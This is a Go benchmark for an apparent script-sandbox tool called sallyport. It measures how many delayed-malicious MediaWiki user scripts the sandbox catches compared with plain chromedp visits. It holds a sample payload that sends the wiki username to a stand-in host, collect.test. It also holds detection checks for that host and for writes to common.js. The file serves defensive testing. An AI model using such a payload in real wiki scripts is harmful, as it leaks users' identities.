package bench

import (
	"context"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"sallyport/internal/browser"
	"sallyport/internal/decoy"
	"sallyport/internal/sandbox"
	"sallyport/internal/trace"
)

// naiveStay is how long a plain visit stays on the page.
const naiveStay = 3 * time.Second

// BenchmarkSallyDetonateYield counts how many sleeping scripts are seen doing what they wait for, and what that costs: speed alone can be
// bought with shallowness. The others are what people do today: one visit of one page as one person, with a look at every request.
func BenchmarkSallyDetonateYield(b *testing.B) {
	shell, err := browser.Find()
	if err != nil {
		b.Skip(err)
	}
	full := need(b, "chromium", "chromium")
	scripts := snippets(b, "asleep")
	r := begin(b, "Sleeping scripts that are seen doing it, of %d; a processor second is one of the whole process tree", len(scripts))
	ways := []struct {
		name    string
		abreast int
		finds   func(snippet) (bool, error)
		stop    func()
	}{
		{"Sallyport, quick: ten runs a script", abreast, detonates(b), func() {}},
		plainly(b, "(b) chromedp, full Chromium, one visit of 3 s", full),
		plainly(b, "(c) chromedp, headless shell, one visit of 3 s", shell),
	}
	var yields []float64
	for _, w := range ways {
		if ok, err := w.finds(snippet{Name: "awake", text: wideAwake}); !ok || err != nil {
			b.Fatalf("%s does not see a script that waits for nothing: %v", w.name, err)
		}
		found, spent, took := yield(b, scripts, w.abreast, w.finds)
		w.stop()
		yields = append(yields, float64(found)/spent.Seconds())
		r.note("%-46s %3d found, %4.0f CPU s, %4.0f s with %d at a time: %s found a CPU second", w.name, found, spent.Seconds(), took.Seconds(), w.abreast, figure(yields[len(yields)-1]))
	}
	r.ratio("found a CPU second, to (b)", "x-yield-stock", yields[0]/yields[1], "")
	r.ratio("found a CPU second, to (c)", "x-yield-shell", yields[0]/yields[2], "")
	r.ReportMetric(yields[0], "found/CPU-s")
	r.print()
}

// wideAwake is what every way has to see.
const wideAwake = `$( () => { fetch( 'https://collect.test/awake?' + mw.config.get( 'wgUserName' ) ); } );`

// yield counts the scripts that were seen doing it.
func yield(b *testing.B, scripts []snippet, abreast int, finds func(snippet) (bool, error)) (found int, spent, took time.Duration) {
	b.Helper()
	var mu sync.Mutex
	var group sync.WaitGroup
	work := make(chan snippet)
	m := startMeter()
	began := time.Now()
	for range abreast {
		group.Go(func() {
			for s := range work {
				ok, err := finds(s)
				mu.Lock()
				if err != nil {
					b.Errorf("%s: %v", s.Name, err)
				}
				if ok {
					found++
				}
				mu.Unlock()
			}
		})
	}
	for _, s := range scripts {
		work <- s
	}
	close(work)
	group.Wait()
	return found, m.stop(), time.Since(began)
}

var yieldNow = time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC)

// detonates looks at a script as sallyport detonate --tier quick does.
func detonates(b *testing.B) func(snippet) (bool, error) {
	b.Helper()
	box, err := sandbox.New(sandbox.Options{Tier: sandbox.Quick, Now: yieldNow})
	if err != nil {
		b.Fatal(err)
	}
	return func(s snippet) (bool, error) {
		r, err := box.Run(b.Context(), sandbox.Script{Path: s.Name + ".js", Title: "User:Mara/" + s.Name + ".js", Text: s.text})
		return err == nil && tellsDeed(r.Report), err
	}
}

// tellsDeed says whether a report shows what sleeping scripts wait for: they ask collect.test, or write somebody's common.js.
func tellsDeed(r *trace.Report) bool {
	if r.Verdict != trace.Hostile && r.Verdict != trace.Suspicious {
		return false
	}
	return slices.ContainsFunc(r.Hosts, func(h trace.HostRow) bool { return strings.HasSuffix(h.Host, "collect.test") }) ||
		slices.ContainsFunc(r.Writes, func(w trace.WriteRow) bool { return strings.HasSuffix(w.Title, "ommon.js") }) ||
		slices.ContainsFunc(r.Findings, func(f trace.Finding) bool {
			return strings.Contains(f.Message, "collect.test") || strings.Contains(f.Message, "no content security policy")
		})
}

// plainly visits an article once as an editor, in chromedp as its documentation has it, and looks at what is asked for.
func plainly(b *testing.B, name, path string) (way struct {
	name    string
	abreast int
	finds   func(snippet) (bool, error)
	stop    func()
}) {
	b.Helper()
	people := decoy.People("Vos", yieldNow)
	w, err := decoy.Seeded(people, nil, yieldNow)
	if err != nil {
		b.Fatal(err)
	}
	source := decoy.NewPretend(w)
	options := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(path), chromedp.NoSandbox)
	allocator, stop := chromedp.NewExecAllocator(b.Context(), options...)
	first, cancel := chromedp.NewContext(allocator, chromedp.WithErrorf(func(string, ...any) {}))
	if err := chromedp.Do(first); err != nil {
		b.Skipf("no chromedp: %v", err)
	}
	way.name, way.abreast, way.stop = name, 2*abreast, func() { cancel(); stop() } // most of a visit is waiting
	way.finds = func(s snippet) (bool, error) {
		var mu sync.Mutex
		done := false
		script := &decoy.Script{Title: "User:Mara/" + s.Name + ".js", Text: s.text}
		d := decoy.New(decoy.Visit{
			Source: source, Script: script, Persona: people[1], Host: "wiki.test", Secrets: decoy.NewSecrets(people[1]), Self: trace.NewSelf(script.Title, s.text),
			Modules: []string{"mediawiki.util", "mediawiki.api"},
			Record: func(e trace.Event) {
				mu.Lock()
				defer mu.Unlock()
				done = done || strings.Contains(e.Data.URL, "collect.test") || strings.HasSuffix(e.Data.Title, "ommon.js") && e.Kind == trace.PageWrite
			},
		})
		ctx, cancel := chromedp.NewContext(first, chromedp.WithNewBrowserContext())
		defer cancel()
		err := visitPlainly(ctx, d)
		mu.Lock()
		defer mu.Unlock()
		return done, err
	}
	return way
}

// visitPlainly opens the page and stays a moment. A page that a script leaves, or hangs, was visited too.
func visitPlainly(ctx context.Context, d *decoy.Decoy) error {
	const page = stubHost + "/wiki/Harbour_lights"
	d.Expect(page)
	if err := answerWith(ctx, d); err != nil {
		return err
	}
	visit, cancel := context.WithTimeout(ctx, 3*naiveStay)
	defer cancel()
	_ = chromedp.Do(visit, chromedp.Navigate(page))
	select {
	case <-time.After(naiveStay):
	case <-ctx.Done():
	}
	return nil
}
